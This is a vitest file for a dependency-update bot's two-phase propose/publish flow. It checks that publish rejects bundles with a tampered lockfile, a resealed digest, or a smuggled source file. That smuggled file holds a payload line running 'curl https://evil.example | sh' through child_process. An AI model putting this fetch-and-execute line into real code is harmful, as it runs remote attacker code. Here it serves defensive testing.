import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sha256 } from '../../src/core/digest.js';
import { canonicalJson } from '../../src/implement/plan-schema.js';
import { commitsOnBranch, runJanitor, startJanitorWorld } from '../janitor/scenario.js';

type Bundle = {
  digest: string;
  report: { results: Array<{ status: string; update: { name: string }; files?: Array<{ path: string; content: string | null; sha256: string }> }> };
};

/** What someone who can write the artifact can do: change it and recompute every hash, the digest included. */
function resealed(bundle: Bundle): Bundle {
  const { digest: _old, ...body } = bundle;
  return { ...body, digest: sha256(canonicalJson(body)) } as Bundle;
}

// Runner emulation on dist/janitor.js: propose runs the updates in the sandbox and writes only a bundle; publish
// (the job with the write token) checks it again with its own rules before anything reaches GitHub.
describe('bundled janitor in two phases', { timeout: 900_000 }, () => {
  it('propose writes nothing to GitHub; publish refuses a bundle edited after propose or one that changes a non-dependency file; a clean bundle publishes', async () => {
    const world = await startJanitorWorld();
    const dir = mkdtempSync(join(tmpdir(), 'janitor-bundle-'));
    try {
      const bundlePath = join(dir, 'bundle.json');
      world.gh.resetRequests();
      const propose = await runJanitor(world, { phase: 'propose', 'bundle-path': bundlePath });
      expect(propose.stderr).toBe('');
      expect(propose.outputs).toMatchObject({ status: 'proposed', kept: '2', reverted: '1', majors: '1', 'bundle-path': bundlePath });
      const digest = propose.outputs['bundle-digest'] ?? '';
      expect(digest).toMatch(/^[0-9a-f]{64}$/);
      expect(world.gh.writes()).toEqual([]);
      const clean = JSON.parse(readFileSync(bundlePath, 'utf8')) as Bundle;
      const pulls = () => [...world.gh.state.pulls.values()].filter((pull) => pull.headRef.startsWith('automated/janitor-'));

      // Attack: a kept lockfile edited after propose, its own SHA-256 made to match, the digest left alone.
      const edited = structuredClone(clean);
      const lock = edited.report.results.find((result) => result.status === 'kept')?.files?.find((file) => file.path === 'package-lock.json');
      if (!lock?.content) throw new Error('the bundle has no kept lockfile');
      const content = Buffer.from(lock.content, 'base64').toString('utf8').replace('"version": "1.1.0"', '"version": "6.6.6"');
      lock.content = Buffer.from(content).toString('base64');
      lock.sha256 = sha256(content);
      const editedPath = join(dir, 'edited.json');
      writeFileSync(editedPath, JSON.stringify(edited));
      const refusedEdit = await runJanitor(world, { phase: 'publish', 'bundle-path': editedPath, 'bundle-digest': digest });
      expect(refusedEdit.outputs).toMatchObject({ status: 'bundle-rejected' });
      expect(refusedEdit.exitCode).not.toBe(0);
      expect(refusedEdit.summary).toContain('the bundle digest does not match its content (it was changed after propose wrote it)');

      // Attack: the same edit with the digest recomputed: it is not the digest propose reported.
      writeFileSync(editedPath, JSON.stringify(resealed(edited)));
      const refusedReseal = await runJanitor(world, { phase: 'publish', 'bundle-path': editedPath, 'bundle-digest': digest });
      expect(refusedReseal.outputs).toMatchObject({ status: 'bundle-rejected' });
      expect(refusedReseal.summary).toContain('the propose step reported: it was changed after propose wrote it');

      // Attack: a kept update that also writes a source file, sealed and with its own digest passed along (as
      // if the digest output were forged too): publish's own check refuses any file that is not a manifest or lockfile.
      const smuggled = structuredClone(clean);
      const kept = smuggled.report.results.find((result) => result.status === 'kept');
      const evil = "require('child_process').execSync('curl https://evil.example | sh');\n";
      kept?.files?.push({ path: 'src/postinstall.js', content: Buffer.from(evil).toString('base64'), sha256: sha256(evil) });
      const sealed = resealed(smuggled);
      const smuggledPath = join(dir, 'smuggled.json');
      writeFileSync(smuggledPath, JSON.stringify(sealed));
      const refusedFile = await runJanitor(world, { phase: 'publish', 'bundle-path': smuggledPath, 'bundle-digest': sealed.digest });
      expect(refusedFile.outputs).toMatchObject({ status: 'bundle-rejected' });
      expect(refusedFile.summary).toContain('src/postinstall.js is not a npm manifest or lockfile at the repository root');

      // Nothing was written by any refused publish.
      expect(world.gh.writes()).toEqual([]);
      expect(pulls()).toHaveLength(0);

      // Control: the bundle propose wrote, with the digest it reported, publishes: two commits, the major filed.
      const publish = await runJanitor(world, { phase: 'publish', 'bundle-path': bundlePath, 'bundle-digest': digest });
      expect(publish.stderr).toBe('');
      expect(publish.outputs).toMatchObject({ status: 'opened', kept: '2', reverted: '1', majors: '1', branch: 'automated/janitor-2026-12-06' });
      expect(commitsOnBranch(world.gh, 'automated/janitor-2026-12-06').map((commit) => commit.message)).toEqual([
        'chore(deps): bump tint from 1.0.0 to 1.1.0',
        'chore(deps): bump money from 1.0.0 to 1.2.0',
      ]);
      expect(pulls()).toHaveLength(1);
      expect([...world.gh.state.issues.values()].some((issue) => issue.title === '[Dependency] money 1.0.0 → 2.0.0 (major version)')).toBe(true);
    } finally {
      rmSync(dir, { recursive: true, force: true });
      await world.close();
    }
  });
});
